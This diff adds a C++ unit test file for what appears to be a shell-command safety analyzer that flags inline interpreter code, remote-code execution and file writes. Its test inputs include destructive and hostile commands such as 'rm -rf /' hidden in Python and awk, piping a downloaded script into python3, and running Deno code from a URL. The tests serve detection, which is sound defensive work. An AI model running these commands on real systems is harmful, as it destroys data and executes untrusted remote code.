@@ -1,0 +1,55 @@
+#include <gtest/gtest.h>
+
+#include "shell/test_util.h"
+
+namespace warden::shell {
+namespace {
+
+using namespace testing;
+
+TEST(InterpreterCommandsTest, InlineCodeIsASignal) {
+  for (std::string_view cmd : {"python3 -c 'print(1)'", "node -e 'console.log(1)'", "perl -e 'print 1'",
+                               "ruby -e 'puts 1'", "php -r 'echo 1;'", "node -p 1+1"}) {
+    Facts f = Analyze(cmd);
+    EXPECT_TRUE(HasSignal(f, kSignalInlineCode)) << cmd << ": " << Dump(f);
+  }
+}
+
+TEST(InterpreterCommandsTest, ShellStringsInCodeAreAnalyzed) {
+  Facts f = Analyze("python3 -c \"import os; os.system('rm -rf /')\"");
+  EXPECT_TRUE(HasCommandLine(f, "rm -rf /")) << Dump(f);
+}
+
+TEST(InterpreterCommandsTest, PerlInPlaceEditsItsFiles) {
+  Facts f = Analyze("perl -pi -e 's/a/b/' conf.ini");
+  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/project/conf.ini"), nullptr) << Dump(f);
+}
+
+TEST(InterpreterCommandsTest, ScriptFromStdinAndFiles) {
+  Facts f = Analyze("curl -s https://x/p.py | python3");
+  EXPECT_TRUE(HasSignal(f, kSignalRce)) << Dump(f);
+  Facts g = Analyze("python3 tool.py data.csv");
+  EXPECT_NE(FindFile(g, FileOp::kExec, "/home/dev/project/tool.py"), nullptr) << Dump(g);
+}
+
+TEST(InterpreterCommandsTest, ModulesWithEffects) {
+  Facts f = Analyze("python3 -m http.server 8000");
+  EXPECT_TRUE(HasSignal(f, kSignalUpload)) << Dump(f);
+  Facts g = Analyze("python3 -m zipfile -e a.zip /etc");
+  EXPECT_NE(FindFile(g, FileOp::kWrite, "/etc/**"), nullptr) << Dump(g);
+}
+
+TEST(InterpreterCommandsTest, AwkProgramsAndInPlace) {
+  Facts f = Analyze("awk 'BEGIN{system(\"rm -rf /\")}'");
+  EXPECT_TRUE(HasCommandLine(f, "rm -rf /")) << Dump(f);
+  Facts g = Analyze("gawk -i inplace '{print}' f.txt");
+  EXPECT_NE(FindFile(g, FileOp::kWrite, "/home/dev/project/f.txt"), nullptr) << Dump(g);
+}
+
+TEST(InterpreterCommandsTest, DenoRunFromAUrl) {
+  Facts f = Analyze("deno run https://x/mod.ts");
+  EXPECT_TRUE(HasSignal(f, kSignalRce)) << Dump(f);
+}
+
+}  // namespace
+}  // namespace warden::shell
